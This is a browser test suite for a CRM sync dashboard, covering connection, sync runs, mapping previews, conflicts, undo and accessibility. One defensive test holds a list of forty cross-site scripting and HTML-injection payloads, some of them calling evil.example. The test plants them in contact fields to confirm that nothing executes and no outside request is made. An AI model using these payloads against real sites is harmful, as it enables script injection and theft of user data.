@@ -1,0 +1,287 @@
+"""The dashboard's flows by mouse and keyboard, at the width of a telephone and of a desk."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from adsapp_crm.models import Contact, CrmConflict, CrmConnection, CrmFieldMapping, CrmPlan, CrmSyncLog, CrmSyncState
+from crm.model import RunKind
+from tests.adsapp_crm.hubspot_account import TOKEN
+
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+AXE = (Path(__file__).parent / "vendor" / "axe.min.js").read_text(encoding="utf-8")
+
+
+def run_of(page):
+    page.wait_for_url("**/runs/*")
+    return page.url.rsplit("/", 1)[1]
+
+
+def inside_window(page):
+    return page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"]
+
+
+@pytest.fixture
+def synced(stand):
+    stand.connect()
+    stand.contact(firstName="Ada", lastName="Lovelace", email="ada@x.example", jobTitle="Countess")
+    stand.contact(firstName="Bea", lastName="Smith", email="bea@x.example", city="Ghent")
+    stand.account.add({"firstname": "Cyd", "lastname": "Jones", "email": "cyd@x.example"})
+    stand.sync()
+    return stand
+
+
+def test_from_connecting_to_the_first_sync(page, stand):
+    """Connect by token, dry run with live progress, look, approve: the page moves on by itself when a run ends."""
+    stand.contact(firstName="Ada", lastName="Lovelace", email="ada@x.example")
+    page.get_by_role("link", name="Connect HubSpot").click()
+    page.get_by_label("Token").fill(TOKEN)
+    page.get_by_role("button", name="Connect by token").click()
+    page.get_by_role("button", name="Make a dry run").click()
+    run_id = run_of(page)
+    page.get_by_role("button", name="Cancel the run").wait_for()
+    stand.finish(run_id)
+    page.get_by_role("link", name="Look at the plan").click(timeout=6_000)  # within the time that progress may take
+    assert inside_window(page)
+    page.get_by_role("button", name="Approve 1 line").click()
+    stand.finish(run_of(page))
+    page.get_by_text("created in the CRM").wait_for(timeout=6_000)
+    assert [each["email"] for each in stand.account.records()] == ["ada@x.example"]
+
+
+def test_a_wrong_token_is_explained_where_it_was_typed(page, stand):
+    page.get_by_role("link", name="Connect HubSpot").click()
+    page.get_by_label("Token").fill("pat-eu1-wrong")
+    page.get_by_role("button", name="Connect by token").click()
+    page.get_by_text(re.compile(r"\(auth\.\w+\)")).wait_for()
+    with stand.inside:
+        assert CrmConnection.objects.count() == 0
+
+
+def test_a_run_is_cancelled_from_its_page(page, synced):
+    page.goto(f"{page.base}/connections/hubspot")
+    page.get_by_role("button", name="Sync now").click()
+    run_id = run_of(page)
+    page.get_by_role("button", name="Cancel the run").click()
+    page.get_by_text("Cancelling").wait_for()
+    synced.finish(run_id)
+    page.get_by_text("Cancelled").first.wait_for(timeout=6_000)
+
+
+def test_a_mapping_shows_its_preview_while_it_is_edited_and_a_refused_one_is_not_saved(page, synced):
+    """Typing changes the preview, not the mapping; a step without inverse on a two-way field is refused."""
+    page.goto(f"{page.base}/connections/hubspot/mapping")
+    page.get_by_role("link", name="Edit jobTitle").click()
+    page.get_by_label("Add a step").select_option("suffix")
+    page.get_by_role("button", name="Add", exact=True).click()
+    page.get_by_label("text", exact=True).fill(" (VIP)")
+    page.locator("#preview").get_by_text("Countess (VIP)").wait_for()
+    with synced.inside:
+        assert CrmFieldMapping.objects.get(adsapp_field="jobTitle", deleted_at=None).transform_rule is None
+    page.get_by_role("button", name="Remove suffix").click()
+    page.get_by_label("Add a step").select_option("truncate")
+    page.get_by_role("button", name="Add", exact=True).click()
+    page.get_by_label("length").fill("3")
+    page.locator("#preview").get_by_text("Refused:").wait_for()
+    page.get_by_role("button", name="Save as a new version").click()
+    page.get_by_text("Not saved; nothing was changed.").wait_for()
+    assert page.get_by_label("length").input_value() == "3"
+    page.said.clear()  # the browser notes the 422
+    page.get_by_label("Direction").select_option("to_crm")
+    page.get_by_role("button", name="Save as a new version").click()
+    page.get_by_text("Saved as a new version").wait_for()
+    with synced.inside:
+        row = CrmFieldMapping.objects.get(adsapp_field="jobTitle", deleted_at=None)
+        assert (row.direction, row.transform_rule["steps"]) == ("to_crm", [{"step": "truncate", "length": 3}])
+
+
+@pytest.fixture
+def contested(synced):
+    with synced.inside:
+        CrmConnection.objects.update(strategy="manual")
+        for name in ("Ada", "Bea"):
+            Contact.objects.filter(first_name=name).update(job_title=f"{name} here", city=f"{name} town")
+    for each in synced.account.back_door("GET", "records")["results"]:
+        name = each["properties"]["firstname"]
+        if name != "Cyd":
+            synced.account.edit(each["id"], jobtitle=f"{name} there", city=f"{name} village")
+    synced.run(RunKind.DELTA)
+    return synced
+
+
+def test_conflicts_are_answered_one_by_one_and_many_alike(page, contested):
+    """One with a click; the rest after a page that counts them."""
+    page.goto(page.base)
+    page.get_by_role("link", name=re.compile("Answer 4 conflicts")).click()
+    page.get_by_role("link", name="Answer Ada Lovelace jobTitle").click()
+    page.get_by_role("button", name="Keep HubSpot's").click()
+    page.get_by_text("1 conflict is answered").wait_for()
+    page.goto(f"{page.base}/conflicts")
+    page.get_by_label("all of this list").check()
+    page.get_by_role("button", name="Keep ADSapp's").click()
+    page.get_by_role("heading", name="Answer 3 conflicts?").wait_for()
+    with contested.inside:
+        assert CrmConflict.objects.filter(status="open").count() == 3
+    page.get_by_role("button", name="Answer 3").click()
+    page.get_by_text("3 conflicts are answered").wait_for()
+    contested.run(RunKind.DELTA)
+    with contested.inside:
+        assert Contact.objects.get(first_name="Ada").job_title == "Ada there"
+        assert Contact.objects.get(first_name="Bea").job_title == "Bea here"
+
+
+def test_undo_asks_with_a_number_and_takes_it_back(page, contested):
+    with contested.inside:
+        run = CrmSyncLog.objects.filter(approved=True).latest("started_at")
+    page.goto(f"{page.base}/runs/{run.pk}")
+    page.get_by_text("Undo this run…").click()
+    page.get_by_role("button", name="Plan the undo").click()
+    contested.finish(run_of(page))
+    page.get_by_role("link", name="Look at the plan").click(timeout=6_000)
+    page.get_by_role("button", name=re.compile("Take back")).click()
+    contested.finish(run_of(page))
+    with contested.inside:
+        assert CrmPlan.objects.filter(kind="undo", status="applied").count() == 1
+
+
+def test_why_is_this_contact_there_within_three_steps(page, contested):
+    """One search from any page: both values, what was agreed, and a way to answer."""
+    page.get_by_label("Find a contact by e-mail").fill("ada@x.example")
+    page.keyboard.press("Enter")
+    page.get_by_role("heading", name="Ada Lovelace").wait_for()
+    for text in ("Ada here", "Ada there", "Countess", "conflict"):
+        assert page.get_by_text(text).first.is_visible()
+    assert inside_window(page)
+
+
+def test_excluding_and_taking_in_again_by_the_list(page, synced):
+    with synced.inside:
+        CrmSyncState.objects.update(error_code="rule.validation", attempts=3)
+    page.goto(page.base)
+    page.get_by_role("link", name="See why 3 records fail").click()
+    page.get_by_label("Choose ada@x.example").check()
+    page.get_by_role("button", name="Leave out").click()
+    page.get_by_text("1 record is left out").wait_for()
+    page.goto(f"{page.base}/records?crm=hubspot&state=excluded")
+    page.get_by_label("all of this list").check()
+    page.get_by_role("button", name="Take in again").click()
+    page.get_by_text("1 record is tried again").wait_for()
+
+
+def test_the_keyboard_alone_starts_a_sync(wide, synced):
+    """The first stop skips to the content; every stop shows where it is."""
+    wide.goto(f"{wide.base}/connections/hubspot")
+    wide.keyboard.press("Tab")
+    assert wide.evaluate("document.activeElement.textContent") == "Skip to the content"
+    for _ in range(40):
+        wide.keyboard.press("Tab")
+        if wide.evaluate("document.activeElement.textContent.trim()") == "Sync now":
+            break
+    outline = wide.evaluate("getComputedStyle(document.activeElement).outlineStyle")
+    assert outline != "none"
+    wide.keyboard.press("Enter")
+    assert run_of(wide)
+
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    "<body onload=alert(1)>",
+    '<a href="javascript:alert(1)">x</a>',
+    "{{ 7|add:7 }}{% debug %}",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    '"autofocus onfocus=alert(1) x="',
+    '<math><mi xlink:href="javascript:alert(1)">',
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    '<meta http-equiv=refresh content="0;url=//evil.example">',
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><button>x",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<div hx-get=/logout hx-trigger=load>",
+    '<div hx-on:load="alert(1)">',
+    "<div data-hx-post=/logout data-hx-trigger=load>",
+    "<img src=//evil.example/p.png>",
+    "<script src=//evil.example/x.js></script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\u003cscript\\u003ealert(1)",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "<<script>alert(1)//<</script>",
+    "<template><script>alert(1)</script></template>",
+    '<noscript><p title="</noscript><script>alert(1)</script>">',
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<xss id=x tabindex=1 onfocus=alert(1)>#x",
+    "\u202e<script>alert(1)</script>",
+]  # fmt: skip
+
+
+def pages_of(stand):
+    """Every page there is something to see on, by the rows there are."""
+    with stand.inside:
+        runs = [f"/runs/{each}" for each in CrmSyncLog.objects.values_list("pk", flat=True)]
+        plans = [f"/plans/{each}" for each in CrmPlan.objects.values_list("pk", flat=True)]
+        people = [f"/contacts/{each}" for each in Contact.objects.order_by("id").values_list("pk", flat=True)[:6]]
+        asked = [f"/conflicts/{each}" for each in CrmConflict.objects.values_list("pk", flat=True)]
+        rows = CrmFieldMapping.objects.filter(deleted_at=None).values_list("pk", flat=True)
+        mapping = [f"/connections/hubspot/mapping/{each}" for each in rows]
+    fixed = ["", "/connections/hubspot", "/connections/hubspot/mapping", "/connections/hubspot/mapping/new"]
+    fixed += ["/conflicts", "/records", "/records?state=excluded", "/contacts?q=a", "/webhooks", "/people"]
+    return [*fixed, "/connect/hubspot", "/organizations", *runs, *plans, *people, *asked, *mapping]
+
+
+def test_forty_scripts_in_every_field_run_nowhere(wide, stand):
+    """Payloads in every mapped field of both sides, visited on every page: no dialog, no report, no way out."""
+    stand.connect()
+    for number, payload in enumerate(PAYLOADS):
+        clean = payload.replace("\x00", "\ufffd")
+        stand.contact(firstName=clean, lastName=f"a{clean}", jobTitle=clean, city=clean, email=f"p{number}@x.example")
+        stand.account.add(
+            {"firstname": payload, "lastname": payload, "jobtitle": payload, "email": f"q{number}@x.example"}
+        )
+    stand.sync()
+    with stand.inside:
+        CrmConnection.objects.update(strategy="manual", remote_account_name=PAYLOADS[0])
+        CrmSyncState.objects.filter(contact__email__startswith="q").update(error_code="rule.validation")
+        Contact.objects.filter(email__startswith="p1").update(job_title=PAYLOADS[1])
+    asked = []
+    wide.on("request", lambda request: asked.append(request.url))
+    for path in pages_of(stand):
+        wide.goto(f"{wide.base}{path}")
+        assert wide.said == [], path
+    host = wide.base.split("/dashboard")[0]
+    assert [each for each in asked if not each.startswith(host)] == []
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_no_page_has_a_serious_fault_for_people_with_a_disability(chromium, live_server, contested, scheme):
+    """axe finds nothing serious or critical on any page, in either scheme."""
+    from tests.browser.conftest import log_in, opened
+
+    found = {}
+    with opened(chromium, 1280, color_scheme=scheme) as window:
+        log_in(window, live_server.url, contested.tenant.user.email)
+        for path in pages_of(contested):
+            window.goto(f"{window.base}{path}")
+            window.evaluate(AXE)
+            told = window.evaluate("axe.run()")
+            assert len(told["passes"]) > 10, path
+            bad = [each for each in told["violations"] if each["impact"] in ("serious", "critical")]
+            for each in bad:
+                found.setdefault(each["id"], []).append((path, each["nodes"][0]["html"][:160]))
+    assert found == {}
